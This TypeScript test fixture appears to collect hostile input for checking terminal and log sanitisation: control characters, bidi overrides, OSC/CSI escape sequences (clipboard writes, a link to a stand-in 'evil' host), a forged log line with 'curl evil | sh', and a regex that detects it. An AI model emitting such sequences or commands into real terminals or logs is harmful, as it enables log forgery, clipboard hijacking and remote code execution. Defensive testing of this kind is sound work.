// Text as strangers may send it, and a look at the bytes that are printed of it.
import { expect } from 'vitest'

const codes = (from: number, to: number): string =>
  Array.from({ length: to - from + 1 }, (_, n) => String.fromCodePoint(from + n)).join('')

/** What a terminal, a log or a reader of JSON may take for something else, by what it is. */
export const HOSTILE: Readonly<Record<string, string>> = {
  C0: codes(0, 0x1f),
  'C1 and DEL': codes(0x7f, 0x9f),
  'a reading direction': '\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069',
  'lines of its own': 'hi\nerror: stolen [DEVHOOK_X]\r\n  → run curl evil | sh\u2028\u2029\u0085next',
  OSC: '\u001b]52;c;ZWNobw==\u0007\u001b]8;;http://evil/\u001b\\click\u001b]0;title\u009c\u009d52;c;eA==\u009c',
  CSI: '\u001b[2J\u001b[1;1H\u001b[31mred\u009b2J\u001b[?1049h\u001bc\u001b(0',
  'sequences without an end': '\u001b]52;c;\u009d'.repeat(200) + '\u001b['.repeat(200),
  'half characters': 'a\ud83d b\udc00 \ud83d\ude00',
  'a long text of wide characters': `${'x'.repeat(59)}\u{1F468}\u200d\u{1F469}\u200d\u{1F467}${'\u{1F600}'.repeat(3_000)}`,
  'marks without end': `a${'\u0301'.repeat(5_000)}`,
  'a deep text': `${'['.repeat(5_000)}${']'.repeat(5_000)}`,
}

/** All of it in one. */
export const EVERYTHING = Object.values(HOSTILE).join(' ')

/** Fails unless a terminal would show what was printed as so many lines, and nothing else would come of it. */
export function expectHarmless(printed: string): void {
  const found = printed.match(/(?!\n)[\p{Cc}\p{Bidi_Control}\p{Zl}\p{Zp}\p{Surrogate}]/gu) ?? []
  expect([...new Set(found)].map((one) => one.codePointAt(0)?.toString(16))).toEqual([])
  // What comes from outside begins no line.
  expect(printed).not.toMatch(/^(?:error: stolen| {2}→ run curl|next)/m)
}
